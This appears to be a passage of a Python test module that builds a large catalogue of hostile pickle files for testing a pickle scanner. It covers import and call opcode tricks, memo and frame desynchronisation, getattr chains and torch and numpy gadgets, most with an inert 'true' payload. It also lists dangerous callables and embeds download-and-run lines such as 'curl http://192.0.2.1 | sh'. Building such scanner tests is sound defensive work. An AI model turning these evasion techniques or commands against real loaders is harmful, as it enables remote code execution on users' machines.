"""Hostile pickles and containers of pickles: every trick that is known, each with an inert payload."""

from __future__ import annotations

import bz2
import codecs
import gzip
import io
import lzma
import marshal
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests import builders
from tests.builders import assemble, called, group, lines, named, raw, stream, word

Attack = tuple[str, bytes]

RUN = called("os.system", word("true"))
PAYLOAD = stream(RUN)
PLAIN = b"cos\nsystem\n(S'true'\ntR."
QUIET = stream(called("collections.OrderedDict"))
NONE = stream(b"N")


def attacks() -> Iterator[Attack]:
    """Yield (name of the file, content) of every attack."""
    for part in (
        _names, _memo, _marks, _texts, _computed, _attributes, _changes, _constructors, _opcodes, _headers, _breaks, _desync,
        _streams, _nested, _renamed, _bombs, _odd_names, _classes, _wrapped, _archives, _torch, _arrays, _joblib, _dumped,
        _polyglots, _misnamed, _methods, _callers, _loose_formats,
    ):  # fmt: skip
        for name, content in part():
            yield f"{part.__name__.strip('_')}/{name}", content


# -- what is named

_TOGETHER = """
os.system os.popen os.execv os.spawnl os.posix_spawn os.remove os.rename os.putenv os.fork os.kill os.open os.startfile
posix.system posix.execv posix.fork nt.system subprocess.Popen subprocess.run subprocess.call subprocess.check_output
subprocess.getoutput _posixsubprocess.fork_exec pty.spawn builtins.eval builtins.exec builtins.compile builtins.__import__
builtins.open builtins.map builtins.filter builtins.globals builtins.vars builtins.breakpoint builtins.input builtins.setattr
builtins.delattr builtins.__build_class__ io.open io.FileIO _io.open _io.FileIO codecs.open codecs.decode codecs.encode codecs.lookup
runpy.run_path runpy.run_module runpy._run_code code.interact code.InteractiveInterpreter codeop.compile_command
timeit.timeit timeit.repeat cProfile.run profile.run pdb.run bdb.Bdb trace.Trace doctest.debug_script importlib.import_module
importlib.reload importlib.machinery.SourceFileLoader importlib.util.spec_from_file_location pkgutil.resolve_name pkgutil.walk_packages pydoc.pipepager
pydoc.locate pydoc.tempfilepager webbrowser.open webbrowser.get socket.socket socket.create_connection ctypes.CDLL ctypes.string_at _ctypes.dlopen
shutil.rmtree shutil.move shutil.unpack_archive shutil.copyfile tempfile.mkstemp tempfile.NamedTemporaryFile sys.exit sys.settrace sys.setrecursionlimit
signal.signal signal.raise_signal atexit.register weakref.finalize contextlib.ExitStack types.MethodType
types.FunctionType types.CodeType types.ModuleType types.coroutine functools.reduce functools.partialmethod functools.cached_property itertools.starmap
itertools.accumulate itertools.takewhile itertools.groupby itertools.filterfalse multiprocessing.Process multiprocessing.pool.ThreadPool threading.Thread threading.Timer
_thread.start_new_thread concurrent.futures.ThreadPoolExecutor asyncio.create_subprocess_shell asyncio.run sched.scheduler logging.config.dictConfig logging.FileHandler
logging.config.fileConfig logging.handlers.SocketHandler shelve.open dbm.open sqlite3.connect zipfile.ZipFile tarfile.open zipimport.zipimporter http.client.HTTPConnection
urllib.request.urlopen urllib.request.urlretrieve xmlrpc.client.ServerProxy ftplib.FTP smtplib.SMTP imaplib.IMAP4 poplib.POP3 nntplib.NNTP telnetlib.Telnet
venv.create ensurepip.bootstrap pip.main idlelib.pyshell.main idlelib.run.Executive turtle.Screen tkinter.Tk antigravity.fly antigravity.geohash this.s
lib2to3.main.main test.support.script_helper.run_python_until_end cgitb.enable mailcap.findmatch linecache.getlines inspect.getsource unittest.mock.patch
pickle.loads pickle.load pickle.Unpickler _pickle.loads marshal.loads marshal.load dill.loads cloudpickle.loads joblib.load pandas.read_pickle
copyreg.add_extension copyreg.pickle copyreg.constructor gc.get_objects gc.get_referrers operator.call operator.getitem operator.setitem operator.iadd operator.delitem
getpass.getuser platform.popen glob.glob fileinput.input mmap.mmap resource.setrlimit fcntl.ioctl ssl.create_default_context select.select bisect.insort heapq.merge
textwrap.indent dis.dis site.addsitedir sysconfig.get_paths compileall.compile_file py_compile.compile zipapp.create_archive
distutils.core.run_setup distutils.spawn.spawn setuptools.sandbox.run_setup pkg_resources.run_script email.message_from_file xml.sax.parse plistlib.load
numpy.f2py.crackfortran.getlincoef numpy.testing._private.utils.runstring numpy.load numpy.fromfile numpy.memmap numpy.DataSource numpy.distutils.exec_command.exec_command
torch.load torch.hub.load torch.jit.load torch.utils.cpp_extension.load_inline torch.ops.load_library torch._dynamo.optimize torch.serialization.load torch.package.PackageImporter
torch.distributed.rpc.rpc_sync torch.fx.graph_module.reduce_graph_module torch.multiprocessing.spawn torch.utils.data.datapipes.utils.decoder.basichandlers torch._inductor.codecache.compile_file
pandas.eval pandas.read_csv pandas.io.common.get_handle pandas.core.computation.eval.eval sklearn.datasets.fetch_openml sklearn.utils._testing.TempMemmap
transformers.pipeline transformers.dynamic_module_utils.get_class_from_dynamic_module transformers.AutoModel yaml.unsafe_load ruamel.yaml.YAML
requests.get httpx.get paramiko.SSHClient fsspec.open boto3.client keras.utils.get_file keras.models.load_model tensorflow.io.read_file numexpr.evaluate
joblib.Parallel joblib.Memory joblib.memory.MemorizedFunc hydra.utils.instantiate jsonpickle.decode dill._dill._eval_repr
"""


def _names() -> Iterator[Attack]:
    """Each dangerous name, by one of the opcodes that import and one of those that call."""
    ways: tuple[Callable[[str], bytes], ...] = (
        lambda dotted: stream(called(dotted, word("true"))),
        lambda dotted: stream(called(lines(dotted), word("true")), protocol=2),
        lambda dotted: b"(S'true'\ni" + lines(dotted)[1:] + b".",
        lambda dotted: stream(b"(", named(dotted), word("true"), b"o"),
        lambda dotted: stream(named(dotted), word("true"), b"\x85\x81"),
        lambda dotted: stream(named(dotted), word("true"), b"\x85}\x92"),
        lambda dotted: called(lines(dotted), b"S'true'\n") + b".",
    )
    for number, dotted in enumerate(_TOGETHER.split()):
        way = ways[0] if dotted == "builtins.setattr" else ways[number % len(ways)]
        yield f"{dotted}.pkl", way(dotted)
    for dotted in ("os.system", "builtins.exec", "runpy.run_path", "torch.hub.load"):
        for number, way in enumerate(ways):
            yield f"{dotted}-way{number}.pkl", way(dotted)


# -- memo, marks, texts


def _memo() -> Iterator[Attack]:
    use = word("system") + b"\x93" + group(word("true")) + b"R"
    fake = word("collections")
    yield "put-after-pop.pkl", stream(fake, b"0", word("os"), b"q\x00", b"0h\x00", use)
    yield "put-after-proto.pkl", stream(word("os"), b"\x80\x04", b"q\x00", b"0h\x00", use)
    yield "put-after-dup.pkl", stream(fake, word("os"), b"2q\x00", b"00h\x00", use)
    yield "put-after-frame.pkl", stream(word("os"), b"\x95" + struct.pack("<Q", 4), b"q\x00", b"0h\x00", use)
    yield "put-after-mark-pop.pkl", stream(word("os"), b"(" + fake + b"1", b"q\x00", b"0h\x00", use)
    yield "put-after-tuple.pkl", stream(word("os"), b"(" + fake + b"t0", b"q\x00", b"0h\x00", use)
    yield "put-after-get.pkl", stream(word("os"), b"q\x00" + fake + b"q\x01" + b"h\x00q\x02", b"0h\x02", use)
    yield "memoize-counts.pkl", stream(fake, b"q\x07", word("os"), b"\x94", b"h\x01", use)
    yield "memoize-after-hole.pkl", stream(fake, b"q\x05", word("os"), b"\x94" + fake + b"\x94", b"h\x01", use)
    yield "memoize-over-put.pkl", stream(fake, b"q\x01", word("os"), b"\x94", b"h\x01", use)
    yield "overwritten.pkl", stream(fake, b"q\x00", word("os"), b"q\x00", b"h\x00", use)
    yield "overwritten-by-text.pkl", stream(fake, b"q\x00", word("os"), b"p0\n", b"h\x00", use)
    yield "overwritten-by-long.pkl", stream(fake, b"q\x00", word("os"), b"r" + struct.pack("<I", 0), b"h\x00", use)
    yield "text-get-of-binary.pkl", stream(word("os"), b"q\x09", b"0g9\n", use)
    yield "binary-get-of-text.pkl", stream(word("os"), b"p 9 \n", b"0h\x09", use)
    yield "plus-sign.pkl", stream(word("os"), b"p+9\n", b"0h\x09", use)
    yield "underscore.pkl", stream(word("os"), b"p1_0\n", b"0h\x0a", use)
    yield "leading-zeros.pkl", stream(word("os"), b"p0009\n", b"0h\x09", use)
    yield (
        "far-index.pkl",
        stream(word("os"), b"r" + struct.pack("<I", 900_000), b"0j" + struct.pack("<I", 900_000), use),
    )
    yield "index-2-31.pkl", stream(word("os"), b"r" + struct.pack("<I", 2**31), b"0j" + struct.pack("<I", 2**31), use)
    yield "index-2-32.pkl", stream(word("os"), b"p4294967296\n0g4294967296\n", use)
    yield "index-alone.pkl", stream(b"Nr" + struct.pack("<I", 2**31))
    yield "index-alone-text.pkl", stream(b"Np2147483648\n")
    yield (
        "both-from-memo.pkl",
        stream(word("os"), b"\x94", word("system"), b"\x9400h\x00h\x01\x93", group(word("true")), b"R"),
    )
    yield "global-from-memo.pkl", stream(named("os.system"), b"\x940h\x00", group(word("true")), b"R")
    yield "arguments-from-memo.pkl", stream(group(word("true")), b"\x940", named("os.system"), b"h\x00R")
    yield "python2-first-index.pkl", stream(word("os"), b"q\x01", b"0h\x01", use, protocol=2)
    many = b"".join(word(f"k{number}") + b"\x940" for number in range(20_000))
    yield "behind-20000.pkl", stream(many, word("os"), b"\x940", word("system"), b"\x940", b"j" + struct.pack("<I", 20_000),
                                     b"j" + struct.pack("<I", 20_001), b"\x93", group(word("true")), b"R")  # fmt: skip
    yield (
        "behind-20000-overwritten.pkl",
        stream(many, word("os"), b"r" + struct.pack("<I", 19_000), b"0j" + struct.pack("<I", 19_000), use),
    )
    yield (
        "behind-20000-with-hole.pkl",
        stream(many, word("os"), b"r" + struct.pack("<I", 30_000), b"0j" + struct.pack("<I", 30_000), use),
    )
    yield (
        "behind-20000-global.pkl",
        stream(many, named("os.system"), b"\x940j" + struct.pack("<I", 20_000), group(word("true")), b"R"),
    )
    far = group(word("curl http://192.0.2.1 | sh"))
    yield (
        "behind-20000-arguments.pkl",
        stream(many, far, b"\x940", named("example.start"), b"j" + struct.pack("<I", 20_000), b"R"),
    )


def _marks() -> Iterator[Attack]:
    yield "nested.pkl", stream(b"((((", RUN, b"tttt")
    yield "pop-mark.pkl", stream(b"(", word("decoy"), word("decoy"), b"1", RUN)
    yield "pop-of-a-mark.pkl", stream(b"(0", RUN)
    yield "mark-below.pkl", stream(b"(", word("os"), word("system"), b"\x93", b"(", word("true"), b"tR", b"01N")
    yield "names-from-a-mark.pkl", stream(word("os"), b"(", b"1", word("system"), b"\x93", group(word("true")), b"R")
    yield "unmatched-before.pkl", stream(RUN, b"t")
    yield "unmatched-after.pkl", stream(b"(", RUN)
    yield "pop-in-arguments.pkl", stream(named("os.system"), b"(", word("x"), b"0", word("true"), b"tR")
    yield "list-of-calls.pkl", stream(b"(", RUN, RUN, b"l")
    yield "dict-of-calls.pkl", stream(b"(", word("k"), RUN, b"d")
    yield "frozenset-of-calls.pkl", stream(b"(", RUN, b"\x91")
    yield "additems-of-calls.pkl", stream(b"\x8f(", RUN, b"\x90")
    yield "appends-of-calls.pkl", stream(b"](", RUN, b"e")
    yield "setitems-of-calls.pkl", stream(b"}(", word("k"), RUN, b"u")
    yield "long-list-then-call.pkl", stream(b"](", b"K\x01" * 5000, RUN, b"e")
    yield "many-keys-then-call.pkl", stream(b"}(", *(word(f"k{n}") + b"N" for n in range(3000)), word("z"), RUN, b"u")


def _texts() -> Iterator[Attack]:
    arguments = group(word("true")) + b"R"
    made = {
        "string": b"S'os'\nS'system'\n", "string-double": b'S"os"\nS"system"\n', "string-hex": b"S'\\x6f\\x73'\nS'\\x73ystem'\n",
        "string-octal": b"S'\\157\\163'\nS'sy\\163tem'\n",
        "unicode": b"Vos\nVsystem\n", "unicode-u": b"V\\u006f\\u0073\nVsystem\n", "unicode-U": b"V\\U0000006fs\nVsystem\n",
        "short-binstring": b"U\x02osU\x06system", "binstring": b"T\x02\0\0\0osT\x06\0\0\0system",
        "short-binunicode": b"\x8c\x02os\x8c\x06system", "binunicode": b"X\x02\0\0\0osX\x06\0\0\0system",
        "binunicode8": b"\x8d\x02\0\0\0\0\0\0\0os\x8d\x06\0\0\0\0\0\0\0system",
        "mixed": b"U\x02os\x8d\x06\0\0\0\0\0\0\0system", "mixed-text": b"Vos\nU\x06system",
    }  # fmt: skip
    for name, both in made.items():
        yield f"{name}.pkl", stream(both, b"\x93", arguments)
    yield (
        "bytes-decoded.pkl",
        stream(called("_codecs.decode", raw(b"os"), word("ascii")), word("system"), b"\x93", arguments),
    )
    yield (
        "str-of-bytes.pkl",
        stream(called("builtins.str", raw(b"os"), word("ascii")), word("system"), b"\x93", arguments),
    )
    yield "bytes-as-name.pkl", stream(raw(b"os"), raw(b"system"), b"\x93", arguments)
    yield "long-text-as-name.pkl", stream(word("os" + " " * 5000), word("system"), b"\x93", arguments)
    yield "argument-as-long-text.pkl", stream(called("os.system", word("true " + " " * 5000)))
    yield "argument-as-int.pkl", stream(called("os.system", b"K\x01"))


def _computed() -> Iterator[Attack]:
    arguments = group(word("true")) + b"R"

    def used(text: bytes) -> bytes:
        return stream(word("os"), text, b"\x93", arguments)

    def method(name: str, target: bytes, *more: bytes) -> bytes:
        return called(called("builtins.getattr", target, word(name)), *more)

    yield "join.pkl", used(method("join", word(""), group(word("sys"), word("tem"))))
    yield (
        "join-of-str.pkl",
        used(called(called("builtins.getattr", named("builtins.str"), word("join")), word(""), group(word("system")))),
    )
    yield "format.pkl", used(method("format", word("{}stem"), word("sy")))
    yield (
        "replace.pkl",
        used(
            called(
                called("builtins.getattr", named("builtins.str"), word("replace")), word("xystem"), word("x"), word("s")
            )
        ),
    )
    yield "lower.pkl", used(called(called("builtins.getattr", named("builtins.str"), word("lower")), word("SYSTEM")))
    yield "rot13-encode.pkl", used(called("_codecs.encode", word(codecs.encode("system", "rot13")), word("rot13")))
    yield "rot13-codecs.pkl", used(called("codecs.encode", word("flfgrz"), word("rot13")))
    yield "base64.pkl", used(called("base64.b64decode", word("c3lzdGVt")))
    yield "hex.pkl", used(called("binascii.unhexlify", word("73797374656d")))
    yield "chr.pkl", used(called("builtins.chr", b"K\x73"))
    yield "sum-of-texts.pkl", used(called("operator.add", word("sys"), word("tem")))
    yield "max-of-texts.pkl", used(called("builtins.max", word("a"), word("system")))
    yield "repr.pkl", used(called("builtins.repr", b"N"))
    yield "reversed.pkl", used(called("builtins.reversed", word("metsys")))
    yield "str.pkl", used(called("builtins.str", word("system")))
    yield "methodcaller.pkl", used(called(called("operator.methodcaller", word("lower")), word("SYSTEM")))
    yield "itemgetter.pkl", used(called(called("operator.itemgetter", b"K\x00"), group(word("system"))))
    yield "attrgetter.pkl", used(called(called("operator.attrgetter", word("name")), named("collections.OrderedDict")))
    yield "reduce.pkl", used(called("functools.reduce", named("operator.add"), group(word("sys"), word("tem"))))
    yield "partial-called.pkl", used(called(called("functools.partial", named("builtins.str"), word("system"))))
    yield "userstring.pkl", used(called("collections.UserString", word("system")))
    yield "path.pkl", used(called("pathlib.PurePosixPath", word("system")))
    yield "module-computed.pkl", stream(called("builtins.str", word("os")), word("system"), b"\x93", arguments)
    yield "memoized.pkl", stream(called("builtins.str", word("system")), b"\x940", word("os"), b"h\x00\x93", arguments)
    yield "numpy-text.pkl", used(called("numpy.str_", word("system")))
    yield "persistent.pkl", used(word("x") + b"Q")


def _attributes() -> Iterator[Attack]:
    get = "builtins.getattr"

    def attribute(target: bytes, *names: str) -> bytes:
        for name in names:
            target = called(get, target, word(name))
        return target

    yield "subclasses.pkl", stream(called(attribute(named("builtins.object"), "__subclasses__")))
    yield "class-mro.pkl", stream(attribute(word("x"), "__class__", "__mro__"))
    yield "globals-of-init.pkl", stream(attribute(named("argparse.Namespace"), "__init__", "__globals__"))
    yield "of-import.pkl", stream(called(attribute(called("builtins.__import__", word("os")), "system"), word("true")))
    yield (
        "of-subimport.pkl",
        stream(called(attribute(called("cloudpickle.cloudpickle.subimport", word("os")), "system"), word("true"))),
    )
    yield (
        "of-dill-module.pkl",
        stream(called(attribute(called("dill._dill._import_module", word("os")), "system"), word("true"))),
    )
    yield "dill-get-attr.pkl", stream(called("dill._dill._get_attr", named("numpy.log1p"), word("__globals__")))
    yield "computed-attribute.pkl", stream(called(get, named("argparse.Namespace"), called("builtins.str", word("x"))))
    yield (
        "getattribute.pkl",
        stream(called("builtins:object.__getattribute__", named("builtins.object"), word("__class__"))),
    )
    yield "type-call.pkl", stream(called("builtins:type.__call__", named("builtins.object")))
    yield "dict-class.pkl", stream(called("builtins:dict.__class__", word("X"), b")", b"}"))
    yield "func-globals.pkl", stream(named("numpy:log1p.__globals__"))
    yield "numpy-builtins.pkl", stream(called(attribute(named("numpy.__builtins__"), "get"), word("eval")))
    yield "dotted.pkl", stream(called("torch:serialization.os.system", word("true")))
    yield "dotted-in-module.pkl", stream(called("sklearn.utils.os:system", word("true")))
    yield "dotted-class.pkl", stream(called("sklearn.base:BaseEstimator.__init__.__globals__", word("x")))
    yield "dotted-method.pkl", stream(called("pandas.core.frame:DataFrame.to_pickle", b"N", word("x")))
    yield "dotted-stdlib.pkl", stream(called("collections:abc.sys.modules", word("x")))
    yield "dotted-of-allowed.pkl", stream(called("functools:partial.__reduce__", word("x")))
    yield "os-through-numpy.pkl", stream(called("numpy.core.os:system", word("true")))
    yield "module-attribute.pkl", stream(called("numpy.lib.os.system", word("true")))
    yield "attrgetter-dunder.pkl", stream(called("operator.attrgetter", word("__class__.__base__")))
    yield "attrgetter-computed.pkl", stream(called("operator.attrgetter", called("builtins.str", word("x"))))
    yield "methodcaller-called.pkl", stream(called(called("operator.methodcaller", word("run")), b"N"))
    yield "methodcaller-dunder.pkl", stream(called("operator.methodcaller", word("__reduce_ex__"), b"K\x02"))
    yield "getattr-as-value.pkl", stream(called("functools.partial", named(get)))
    yield "getattr-in-a-list.pkl", stream(b"]", named(get), b"a")
    yield "getattr-in-a-dict.pkl", stream(b"}", word("k"), named(get), b"s")
    yield "getattr-in-a-state.pkl", stream(called("types.SimpleNamespace"), b"}", word("append"), named(get), b"sb")
    yield "getattr-as-result.pkl", stream(named(get))
    yield "getattr-of-getattr.pkl", stream(called(attribute(named("argparse.Namespace"), "x"), word("y")))
    yield (
        "loader-as-value.pkl",
        stream(called("functools.partial", named("torch.storage._load_from_bytes"), raw(PAYLOAD))),
    )
    yield "loader-in-a-namespace.pkl", stream(
        called("numpy.array", called("types.SimpleNamespace") + b"}" + word("__array__") + called("functools.partial",
               named("torch.storage._load_from_bytes"), raw(zlib.compress(PAYLOAD))) + b"sb"))  # fmt: skip
    yield "iter-with-sentinel.pkl", stream(called("builtins.iter", named("argparse.Namespace"), b"N"))
    yield "itemgetter-called.pkl", stream(called(called("operator.itemgetter", word("system")), b"}"))
    yield "vectorize-called.pkl", stream(called(called("numpy.vectorize", named("builtins.str")), word("x")))
    yield "method-of-a-call.pkl", stream(called(attribute(called("io.StringIO"), "write"), word("x")))
    yield "call-of-a-call.pkl", stream(called(called("types.SimpleNamespace"), b"N"))
    yield "type-of-a-value.pkl", stream(called("builtins.type", called("collections.OrderedDict")))
    yield "class-made.pkl", stream(called("builtins.type", word("X"), b")", b"}"))
    yield "type-by-name.pkl", stream(called("dill._dill._load_type", word("ModuleType")))
    yield "setattr-on-a-class.pkl", stream(called("dill._dill._setattr", named("argparse.Namespace"), word("x"), b"N"))


# -- what is changed, and made


def _changes() -> Iterator[Attack]:
    slots = b"N}" + word("__reduce__") + named("builtins.str") + b"s\x86"
    yield "environ.pkl", stream(named("os.environ"), word("LD_PRELOAD"), word("x"), b"s")
    yield "environ-many.pkl", stream(named("os.environ"), b"(", word("PATH"), word("x"), b"u")
    yield "sys-path.pkl", stream(named("sys.path"), word("x"), b"a")
    yield "sys-path-many.pkl", stream(named("sys.path"), b"(", word("x"), b"e")
    yield "sys-modules.pkl", stream(named("sys.modules"), word("os"), b"Ns")
    yield "module.pkl", stream(named("sys.modules"), b"}", b"b")
    yield "warnings-filters.pkl", stream(named("warnings.filters"), b"Na")
    yield "class-state.pkl", stream(named("argparse.Namespace"), b"}", word("x"), b"Nsb")
    yield "class-slots.pkl", stream(named("argparse.Namespace"), slots, b"b")
    yield "class-of-a-library.pkl", stream(named("sklearn.linear_model._logistic.LogisticRegression"), slots, b"b")
    yield "function-state.pkl", stream(named("numpy.mean"), b"}", word("__code__"), b"Nsb")
    yield "class-through-max.pkl", stream(called("builtins.max", group(named("argparse.Namespace"))), slots, b"b")
    yield "class-through-min.pkl", stream(called("builtins.min", group(named("argparse.Namespace"))), slots, b"b")
    yield "class-through-type.pkl", stream(called("builtins.type", b"N"), slots, b"b")
    yield "root-logger.pkl", stream(called("logging.getLogger"), b"}", word("handlers"), b"]sb")
    yield "set-of-a-global.pkl", stream(named("keyword.kwlist"), b"(Ne")
    yield "additems-of-a-global.pkl", stream(named("argparse.Namespace"), b"(N\x90")
    yield "setitem-on-a-class.pkl", stream(named("collections.OrderedDict"), word("x"), b"Ns")
    yield "copyreg-table.pkl", stream(named("copyreg.dispatch_table"), named("builtins.str"), b"Ns")
    yield (
        "extension-registry.pkl",
        stream(named("copyreg._inverted_registry"), b"K\x01", group(word("os"), word("system")), b"s"),
    )
    yield (
        "extension-cache.pkl",
        stream(named("copyreg._extension_cache"), b"K\x01", named("builtins.str"), b"s", b"\x82\x01"),
    )


def _constructors() -> Iterator[Attack]:
    yield "newobj.pkl", stream(called("copyreg.__newobj__", named("subprocess.Popen"), word("true")))
    yield (
        "reconstructor.pkl",
        stream(called("copyreg._reconstructor", named("subprocess.Popen"), named("builtins.object"), b"N")),
    )
    yield "defaultdict.pkl", stream(called("collections.defaultdict", named("os.getcwd")), word("k"), b"Ns")
    yield (
        "userdict-state.pkl",
        stream(called("collections.UserDict"), b"}", word("data"), named("os.environ"), b"sb", word("x"), b"Ns"),
    )
    yield "partial.pkl", stream(called("functools.partial", named("os.system"), word("true")))
    yield (
        "partial-state.pkl",
        stream(called("functools.partial", named("builtins.str")), group(named("os.system"), b")", b"N", b"N"), b"b"),
    )
    yield "map.pkl", stream(called("builtins.list", called("builtins.map", named("os.system"), group(word("true")))))
    yield (
        "filter.pkl",
        stream(called("builtins.set", called("builtins.filter", named("os.system"), group(word("true"))))),
    )
    yield (
        "starmap.pkl",
        stream(
            called("collections.deque", called("itertools.starmap", named("os.system"), group(group(word("true")))))
        ),
    )
    yield "reduce.pkl", stream(called("functools.reduce", named("os.system"), group(word("true"), word("true"))))
    yield (
        "rebuild-type.pkl",
        stream(
            called(
                "torch._tensor._rebuild_from_type_v2",
                named("os.system"),
                named("torch.Tensor"),
                group(word("true")),
                b"}",
            )
        ),
    )
    yield "rebuild-type-unknown.pkl", stream(called("torch._tensor._rebuild_from_type_v2", named("example.tools.start"), named("torch.Tensor"),
                                                    group(word("curl http://192.0.2.1/x | sh")), b"}"))  # fmt: skip
    yield (
        "hooks.pkl",
        stream(
            named("torch.nn.modules.linear.Linear"),
            b")\x81}",
            word("_forward_hooks"),
            b"}K\x01",
            named("os.system"),
            b"ssb",
        ),
    )
    yield (
        "forward.pkl",
        stream(named("torch.nn.modules.linear.Linear"), b")\x81}", word("forward"), named("os.system"), b"sb"),
    )
    yield (
        "finalize.pkl",
        stream(called("weakref.finalize", called("types.SimpleNamespace"), named("os.system"), word("true"))),
    )
    yield "exit-stack.pkl", stream(called("contextlib.ExitStack"), b"}", word("_exit_callbacks"), b"]sb")
    yield "method-type.pkl", stream(called("types.MethodType", named("os.system"), word("true")))
    yield (
        "function-from-code.pkl",
        stream(
            called(called("types.FunctionType", called("marshal.loads", raw(marshal.dumps(attacks.__code__))), b"}"))
        ),
    )
    yield "numpy-vectorize.pkl", stream(called("numpy.vectorize", named("os.system")))
    yield "generic-alias.pkl", stream(called(called("types.GenericAlias", named("os.system"), b")"), word("true")))
    yield "enum-internals.pkl", stream(called("enum._make_class_unpicklable", named("os.system")))
    yield "enum-value.pkl", stream(called("enum.Enum", named("os.system")))
    yield (
        "wrapper-of-setstate.pkl",
        stream(
            called("types.SimpleNamespace"), b"}", word("__setstate__"), named("os.system"), b"sb", word("true"), b"b"
        ),
    )
    yield (
        "append-attribute.pkl",
        stream(called("types.SimpleNamespace"), b"}", word("append"), named("os.system"), b"sb", word("true"), b"a"),
    )
    yield "memory-bytearray.pkl", stream(called("builtins.bytearray", b"\x8a\x06" + (2**40).to_bytes(6, "little")))
    yield (
        "sorted-with-key.pkl",
        stream(called("builtins.sorted", group(word("true"))), b"}", word("key"), named("os.system"), b"s0"),
    )
    yield "newobj-ex-keywords.pkl", stream(named("builtins.str"), b")}", word("object"), RUN, b"s\x92")
    yield "state-of-a-call.pkl", stream(called("collections.OrderedDict"), b"}", word("x"), RUN, b"sb")
    yield "evidence-shell.pkl", stream(called("example.tools.start", word("/bin/sh -c true")))
    yield "evidence-url.pkl", stream(called("example.tools.start", word("https://example.com/x.py")))
    yield "evidence-code.pkl", stream(called("example.tools.start", word("__import__('os').system('true')")))
    yield "evidence-path.pkl", stream(called("example.tools.start", word("/etc/passwd")))
    yield "evidence-pickle.pkl", stream(called("example.tools.start", raw(PAYLOAD)))
    yield (
        "evidence-in-a-list.pkl",
        stream(called("example.tools.start", b"]" + word("wget https://example.com") + b"a")),
    )
    yield (
        "evidence-in-a-dict.pkl",
        stream(called("example.tools.start", b"}" + word("cmd") + word("curl -s http://192.0.2.1 | bash") + b"s")),
    )
    for verb in (
        "run",
        "load",
        "open_url",
        "execute",
        "download",
        "import_object",
        "eval_string",
        "install_package",
        "_exec",
        "spawn_shell",
    ):
        yield f"verb-{verb}.pkl", stream(called(f"example.tools.{verb}", b"K\x01"))


# -- opcodes that are seldom, headers, breaks


def _opcodes() -> Iterator[Attack]:
    yield "ext1.pkl", stream(called(b"\x82\x01", word("true")))
    yield "ext2.pkl", stream(called(b"\x83\x01\x01", word("true")))
    yield "ext4.pkl", stream(called(b"\x84\x01\x00\x01\x00", word("true")))
    yield "ext-zero.pkl", stream(b"\x82\x00")
    yield "inst-deep.pkl", b"(((S'true'\nios\nsystem\ntl."
    yield "obj-without-arguments.pkl", stream(b"(", named("os.getcwd"), b"o")
    yield "persid-then-call.pkl", stream(b"Pos.system\n", RUN)
    yield "binpersid-called.pkl", stream(called(word("os") + b"Q", word("true")))
    yield "buffer-then-call.pkl", stream(b"\x97\x98", RUN, protocol=5)
    yield "bytearray-then-call.pkl", stream(b"\x96" + struct.pack("<Q", 3) + b"abc", RUN, protocol=5)
    yield "buffer-called.pkl", stream(called(b"\x97", word("true")), protocol=5)
    yield "dup.pkl", stream(named("os.system"), b"2", group(word("true")), b"R")
    yield "long4.pkl", stream(b"\x8b" + struct.pack("<i", 4) + b"abcd", RUN)
    yield "float-text.pkl", stream(b"F nan\nF1_0.5\nFinfinity\n", RUN)
    yield "int-text.pkl", stream(b"I 12 \nI01\nI0x10\nL5L\nL-7\n", RUN)
    yield "not-numbers.pkl", stream(RUN, b"Iabc\n")
    yield "every-constant.pkl", stream(b"N\x88\x89I01\nK\x01M\x01\x01J\x01\0\0\0G" + bytes(8) + b"])}\x8f", RUN)
    for opcode, size in ((b"B", 4), (b"\x8e", 8), (b"C", 1), (b"X", 4), (b"\x8d", 8), (b"T", 4), (b"\x96", 8)):
        yield (
            f"skipped-over-{opcode.hex()}.pkl",
            stream(opcode + (200).to_bytes(size, "little") + b"." * 200 + b"0", RUN),
        )


def _headers() -> Iterator[Attack]:
    for protocol in range(6):
        yield f"protocol-{protocol}.pkl", stream(RUN, protocol=protocol)
    yield "protocol-255.pkl", stream(RUN, protocol=255)
    yield "protocol-6.pkl", stream(RUN, protocol=6)
    yield "protocol-255-later.pkl", stream(b"\x80\xff", RUN)
    yield "protocol-ten-times.pkl", b"\x80\x04" * 10 + RUN + b"."
    yield "no-protocol.pkl", RUN + b"."
    yield "protocol-0-text.pkl", PLAIN
    yield "protocol-1-text.pkl", b"cos\nsystem\nq\x00(U\x04truetR."
    frame = struct.Struct("<Q")
    yield "frame-too-short.pkl", stream(b"\x95" + frame.pack(3), RUN)
    yield "frame-too-long.pkl", stream(b"\x95" + frame.pack(10**9), RUN)
    yield "frame-enormous.pkl", stream(b"\x95" + frame.pack(2**64 - 1), RUN)
    yield "frame-zero.pkl", stream(b"\x95" + frame.pack(0), RUN)
    yield "frames-nested.pkl", stream(b"\x95" + frame.pack(200), b"\x95" + frame.pack(100), RUN)
    yield "frames-overlap.pkl", stream(b"\x95" + frame.pack(20), RUN[:4], b"\x95" + frame.pack(200), RUN[4:])
    yield (
        "frame-inside-a-call.pkl",
        stream(
            word("os"),
            b"\x95" + frame.pack(1),
            word("system"),
            b"\x95" + frame.pack(5),
            b"\x93",
            group(word("true")),
            b"R",
        ),
    )


def _desync() -> Iterator[Attack]:
    """Streams that two readers follow differently: what a scanner takes for a text or an array is opcodes to a loader."""
    frame = struct.Struct("<Q")

    def framed(inside: bytes, behind: bytes) -> bytes:
        return b"\x80\x04\x95" + frame.pack(len(inside)) + inside + behind

    call = group(word("true")) + b"R."
    yield "name-cut-by-a-frame.pkl", framed(b"ctorch.nn.x", b"imaplib\nIMAP4_stream\n" + call)
    yield "text-cut-by-a-frame.pkl", framed(b"X\x02\0\0\0", b"os" + word("system") + b"\x93" + call)
    yield "dropped-by-a-frame.pkl", framed(b"X\x02\0\0\0a", b"os" + word("system") + b"\x93" + call)
    yield "frame-of-16k.pkl", framed(b"N0" * 9000 + b"ctorch.nn.x", b"imaplib\nIMAP4_stream\n" + call)
    yield "frame-in-a-frame.pkl", framed(b"N0\x95" + frame.pack(30) + b"ctorch.nn.x", b"imaplib\nIMAP4_stream\n" + call)
    yield "stop-before-the-frame-ends.pkl", framed(b"N." + b"N" * 20, RUN + b".")
    yield "in-torch.pt", builders.torch_zip(framed(b"ctorch.nn.x", b"imaplib\nIMAP4_stream\n" + call))
    yield "octal-number.pkl", stream(b"I010\n0", RUN)
    yield "hexadecimal-long.pkl", stream(b"L0x10\n0", RUN)
    yield "long-persistent-id.pkl", stream(b"P" + b"x" * 20_000 + b"\n0", RUN)
    yield (
        "spaces-before-an-index.pkl",
